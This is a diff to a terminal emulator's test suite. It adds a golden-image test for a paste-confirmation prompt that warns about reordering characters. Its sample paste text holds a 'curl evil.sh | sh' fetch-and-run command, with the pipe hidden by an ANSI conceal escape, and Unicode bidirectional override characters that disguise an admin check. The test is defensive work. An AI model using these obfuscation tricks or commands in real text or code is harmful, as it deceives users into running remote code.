@@ -11,7 +11,7 @@ from gputerm.view import INVERT, Overlay, Span
 from gputerm.view.bar import Bar, blank_row, put, whole_row
 from gputerm.view.message_bar import MessageBar
 from gputerm.view.overlay import TextCells
-from gputerm.view.question import Question, Questions
+from gputerm.view.question import Choice, Question, Questions
 from gputerm.view.surfaces import Area, Edge, Laid, Surfaces
 from gputerm.view.surrounded import Surrounded
 from gputerm.vt.core import cells as c
@@ -104,12 +104,30 @@ def test_messages_and_a_question(canvas, golden, size):
     messages.show('can\'t start "xdg-open": No such file or directory')
     messages.show("漢字 no glyph for U+E123")
     pictures = [shown()]
-    questions.ask(Question("Paste three lines?", "Paste", "Don't paste", lambda yes: None))
+    choices = (Choice("y", "Paste"), Choice("n", "Don't paste"))
+    questions.ask(Question("Paste three lines?", choices, lambda key: None))
     pictures.append(shown())
     messages.clear()
     screen.cursor = FakeCursor(screen.lines - 1, 2, True)
     pictures.append(shown())
     golden(f"surfaces_{screen.columns}x{screen.lines}", np.concatenate(pictures))
+
+
+@pytest.mark.gl
+@pytest.mark.parametrize("size", [(12, 40), (16, 80)])
+def test_a_question_about_a_paste(canvas, golden, size):
+    """As app/pasting.py asks it."""
+    surfaces, questions = Surfaces(lambda: None), Questions()
+    surfaces.add(questions)
+    choices = Choice("y", "Paste"), Choice("o", "As one line"), Choice("n", "Don't paste")
+    text = (
+        'if role != "admin\u202e \u2066// ordinary\u2069\u2066":\n\tcurl evil.sh \x1b[8m| sh\n' * 3
+    )
+    sentence = "Paste 6 lines? Line ends act as the Enter key here; reordering characters: 12"
+    questions.ask(Question(sentence, choices, lambda key: None, text))
+    screen = filled(*size)
+    texts = surfaces.lay_out(*size, 0, surface_colors(Config()))
+    golden(f"paste_{size[1]}x{size[0]}", pixels(canvas, screen, Overlay(texts=texts)))
 
 
 class Tabs(Bar):
